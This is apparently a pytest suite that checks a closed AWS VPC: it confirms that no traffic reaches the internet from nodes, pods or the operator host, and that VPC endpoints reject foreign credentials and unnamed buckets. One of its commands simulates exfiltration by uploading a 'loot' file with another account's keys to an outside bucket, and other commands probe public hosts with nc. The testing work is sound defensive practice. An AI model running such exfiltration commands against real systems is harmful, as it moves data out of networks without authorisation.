"""C-02 and C-13: nothing leaves the closed network, by packets; and nothing is carried out by the doors that it has."""

from __future__ import annotations

import json
import secrets
import shlex
from collections.abc import Callable

import pytest

from islanding.aws.bucket import name_endpoint
from islanding.aws.calls import call, session
from islanding.kube.certificates import Operator
from islanding.model import AwsAccess, Place, Sample, Site
from islanding.outcomes import recognise
from islanding.probes import Probe
from islanding.probes.of_site import SiteProbes
from islanding.process import Result

WAYS = (("tcp", 443), ("http", 80), ("udp", 53), ("dns", 53), ("icmp", 0))
CONTROLS = (("tcp", 443), ("icmp", 0))  # what any host on the internet answers
ANSWERED = ("OPEN", "REFUSED")  # a packet came back
SILENT = ("BLOCKED", "NO_ROUTE")  # AWS says nothing; an instance without a route says so itself
Evidence = Callable[[str, str], None]
Observe = Callable[[Probe], Sample]


def _target(site: Site) -> str:
    """A host on the internet that answers: one of the site's own, or a well-known one."""
    return site.facts.get("elsewhere_address", "1.1.1.1")


@pytest.mark.site("closed-vpc")
@pytest.mark.requirement("C-02")
def test_no_packet_leaves_from_node_or_operator(
    site: Site, probe: SiteProbes, observe: Observe, evidence: Evidence
) -> None:
    """From nodes and operator nothing on the internet answers: not by TCP, HTTP, UDP, DNS or ICMP.

    The same tries from the bastion, which has an internet gateway, are answered: so it is the network that is closed,
    and not the host that is away.
    """
    for place in ("bastion", "operator", *(node.place for node in site.workers)):
        for protocol, port in WAYS if place != "bastion" else CONTROLS:
            sample = observe(probe.egress(_target(site), at=place, protocol=protocol, port=port))
            evidence(f"{protocol} from {place}", sample.text)
            wanted = ("OPEN",) if place == "bastion" else SILENT
            assert sample.outcome in wanted, f"{protocol} from {place}: {sample.outcome}: {sample.text}"


@pytest.mark.site("closed-vpc")
@pytest.mark.requirement("C-02")
def test_no_packet_leaves_from_a_pod(site: Site, operator: Operator, evidence: Evidence) -> None:
    """From a pod with an address of its own nothing on the internet answers, by TCP or DNS; the workload does."""
    pod = operator.kubectl(
        "get", "pods", "--selector=app=web", "--field-selector=status.phase=Running", "-o", "name"
    ).stdout.splitlines()[0]
    own = operator.kubectl("get", pod, "-o", "jsonpath={.status.podIP}").stdout
    tries = {
        "the workload": (own, 80),
        "TCP 443 on the internet": (_target(site), 443),
        "TCP 53 on the internet": (_target(site), 53),
        "the public resolver": (site.facts.get("public_resolver", "8.8.8.8"), 53),
    }
    for what, (address, port) in tries.items():
        done = operator.kubectl("exec", pod, "--", *_connect(address, port), check=False, timeout=30)
        said = (done.stdout + done.stderr).strip()
        evidence(f"{what}, {address}:{port}, from {pod}", f"exit code {done.exit_code} {said}")
        assert done.ok is (what == "the workload"), f"{what}: {said}"


def _connect(address: str, port: int) -> tuple[str, ...]:
    """A connection by what the workload's image has."""
    return ("sh", "-c", f"nc -w 4 {address} {port} </dev/null")


@pytest.mark.site("closed-vpc")
@pytest.mark.requirement("C-02")
def test_names_of_the_internet_lead_nowhere(
    site: Site, probe: SiteProbes, observe: Observe, evidence: Evidence
) -> None:
    """A service without an endpoint has a name that resolves to public addresses, and none of them answers."""
    name = f"eks.{site.aws.region}.amazonaws.com"
    found = observe(probe.dns(name, at="operator"))
    evidence(f"{name} at the operator", found.text)
    assert found.outcome == "RESOLVED", found.text
    said = observe(probe.aws_call("eks", "list-clusters", at="operator"))
    evidence("aws eks list-clusters at the operator", said.text)
    assert said.outcome == "AWS_TIMEOUT", f"{said.outcome}: {said.text}"


@pytest.mark.site("closed-vpc")
@pytest.mark.requirement("C-02")
def test_peering_gives_no_transit(site: Site, probe: SiteProbes, observe: Observe, evidence: Evidence) -> None:
    """A default route through the peering does not lead to the bastion VPC's internet gateway."""
    table = {"RouteTableId": site.facts["operator_route_table_id"], "DestinationCidrBlock": "0.0.0.0/0"}
    route = {**table, "VpcPeeringConnectionId": _peering(site)}
    call(site, "ec2", "create_route", route)
    try:
        for protocol, port in WAYS:
            sample = observe(probe.egress(_target(site), at="operator", protocol=protocol, port=port))
            evidence(f"{protocol} through the peering", sample.text)
            assert sample.outcome in SILENT, f"{protocol}: {sample.outcome}: {sample.text}"
    finally:
        call(site, "ec2", "delete_route", table)


def _peering(site: Site) -> str:
    reply = call(site, "ec2", "describe_vpc_peering_connections", {})["VpcPeeringConnections"]
    ends = {site.facts["vpc_id"], site.facts["bastion_vpc_id"]}
    return next(
        str(one["VpcPeeringConnectionId"])
        for one in reply
        if {one["RequesterVpcInfo"]["VpcId"], one["AccepterVpcInfo"]["VpcId"]} == ends
        and one["Status"]["Code"] == "active"
    )


# -- what could be carried out by the doors ----------------------------------------------------------------------------


@pytest.mark.site("closed-vpc")
@pytest.mark.requirement("C-13")
def test_foreign_credentials_are_refused_at_the_endpoints(site: Site, operator: Operator, evidence: Evidence) -> None:
    """Keys of another account, brought inside, are refused at each endpoint by its policy; outside they are good."""
    access, secret, token = _foreign_keys(site)
    lines = [f"export AWS_ACCESS_KEY_ID={shlex.quote(access)} AWS_SECRET_ACCESS_KEY={shlex.quote(secret)}"]
    lines += [f"export AWS_SESSION_TOKEN={shlex.quote(token)}"] if token else []
    lines += [f"export AWS_DEFAULT_REGION={site.aws.region} AWS_MAX_ATTEMPTS=1"]
    for what, command in _FOREIGN.items():
        # On standard input: nothing of it is left at the operator, nor is it seen in a list of processes there.
        script = "\n".join([*lines, command.format(bucket=site.facts["bucket"])])
        done = operator.place.run(["bash", "-s"], stdin=script, check=False, timeout=60)
        said = _without(done, access, secret, token)
        evidence(f"{what} with keys of another account", said)
        outcome = recognise("aws-call", done.exit_code, said)
        assert outcome.name == "AWS_ACCESS_DENIED", f"{what}: {outcome.name}: {said}"
    own = operator.place.run(["aws", "ecr", "get-authorization-token", "--query", "length(authorizationData)"])
    assert own.stdout.strip() == "1", "the site's own account is let through by the same endpoint"


# The message's own error code decides, and not the exit code: it is 254 for a refusal (aws-cli, return codes).
_FOREIGN = {
    "ecr": "aws ecr get-authorization-token --query 'length(authorizationData)'",  # should it be let in: no token kept
    "ec2": "aws ec2 describe-vpcs",
    "s3": "echo loot > /tmp/loot.$$; aws s3api put-object --bucket exfiltrated-elsewhere --key loot --body /tmp/loot.$$"
    "; s=$?; rm -f /tmp/loot.$$; exit $s",
}


def _foreign_keys(site: Site) -> tuple[str, str, str]:
    """The keys of the profile that belongs to another account; what holds them is the runner's own."""
    env = {**site.aws.env, "AWS_PROFILE": site.facts["foreign_profile"]}
    keys = session(AwsAccess(region=site.aws.region, account="", env=env)).get_credentials().get_frozen_credentials()
    return keys.access_key, keys.secret_key, keys.token or ""


def _without(done: Result, *secret: str) -> str:
    said = (done.stderr + done.stdout).strip()
    for one in filter(None, secret):
        said = said.replace(one, "***")
    return said


@pytest.mark.site("closed-vpc")
@pytest.mark.requirement("C-13")
def test_bucket_is_read_through_the_named_endpoint_only(site: Site, operator: Operator, evidence: Evidence) -> None:
    """An object of the transfer bucket is read inside, through the endpoint; with the same right outside it is not.

    The bucket's policy names the endpoint (aws:sourceVpce): the creator of all this, from the internet, is refused.
    """
    name_endpoint(site)
    bucket, key, text = site.facts["bucket"], f"case-{secrets.token_hex(4)}", secrets.token_hex(8)
    inside = operator.place.run(
        ["bash", "-c", f"aws s3 cp --only-show-errors - s3://{bucket}/{key} && aws s3 cp s3://{bucket}/{key} -"],
        stdin=text, check=False,
    )  # fmt: skip
    assert inside.stdout.strip() == text, inside.stderr
    outside = _at(site, "workstation").run(
        ["aws", "s3api", "get-object", "--bucket", bucket, "--key", key, "/dev/null"], check=False
    )
    said = (outside.stderr or outside.stdout).strip()
    evidence("the same object from the workstation", said)
    assert recognise("aws-call", outside.exit_code, said).name == "AWS_ACCESS_DENIED", said


@pytest.mark.site("closed-vpc")
@pytest.mark.requirement("C-13")
def test_other_buckets_are_refused_at_the_endpoint(site: Site, operator: Operator, evidence: Evidence) -> None:
    """A bucket that the endpoint's policy does not name is not reached, whatever rights the caller has."""
    name = f"elsewhere-{secrets.token_hex(4)}"
    call(site, "s3", "create_bucket", {"Bucket": name, **_located(site)})
    allow = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{site.aws.account}:root"},
                "Action": ["s3:GetObject", "s3:PutObject"],
                "Resource": f"arn:aws:s3:::{name}/*",
            }
        ],
    }
    try:
        call(site, "s3", "put_bucket_policy", {"Bucket": name, "Policy": json.dumps(allow)})
        call(site, "s3", "put_object", {"Bucket": name, "Key": "here", "Body": b"text"})
        done = operator.place.run(
            ["aws", "s3api", "get-object", "--bucket", name, "--key", "here", "/dev/null"], check=False
        )
        said = (done.stderr or done.stdout).strip()
        evidence("a bucket that the endpoint's policy does not name", said)
        assert recognise("aws-call", done.exit_code, said).name == "AWS_ACCESS_DENIED", said
    finally:
        call(site, "s3", "delete_object", {"Bucket": name, "Key": "here"})
        call(site, "s3", "delete_bucket", {"Bucket": name})


def _located(site: Site) -> dict[str, object]:
    if site.aws.region == "us-east-1":
        return {}
    return {"CreateBucketConfiguration": {"LocationConstraint": site.aws.region}}


def _at(site: Site, role: str) -> Place:
    return next(place for place in site.places if place.role == role)
